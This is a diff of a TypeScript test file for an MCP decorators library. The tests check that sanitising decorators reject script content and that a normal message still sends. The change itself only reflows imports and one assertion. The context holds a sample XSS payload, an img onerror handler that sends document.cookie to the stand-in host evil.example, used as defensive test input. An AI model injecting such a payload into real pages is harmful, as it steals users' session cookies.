@@ -1,15 +1,6 @@
 import { IsEmail, IsString, Length, MaxLength } from 'class-validator';
 import { injectable } from 'tsyringe';
-import {
-  createMcpApp,
-  EscapeHtml,
-  McpDefinitionError,
-  NoScriptContent,
-  SecureInput,
-  Tool,
-  Trim,
-  type TestClient,
-} from 'mcp-decorators';
+import { createMcpApp, EscapeHtml, McpDefinitionError, NoScriptContent, SecureInput, Tool, Trim, type TestClient } from 'mcp-decorators';
 import { useApps } from '../support/app-harness';
 
 const XSS = `<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`;
@@ -79,9 +70,7 @@ describe.each([['2026-07-28'], ['2025-11-25']])('secure input, end to end throug
       /message contains potentially dangerous content \(javascript:\)/,
     );
     expect(tools.received).toEqual([]);
-    expect(await client.callTool('send', { message: 'See you at 5', recipient: 'ada@example.com' })).toBe(
-      'Message sent securely to ada@example.com',
-    );
+    expect(await client.callTool('send', { message: 'See you at 5', recipient: 'ada@example.com' })).toBe('Message sent securely to ada@example.com');
   });
 
   it('SecureInput rejects control characters and advertises it', async () => {
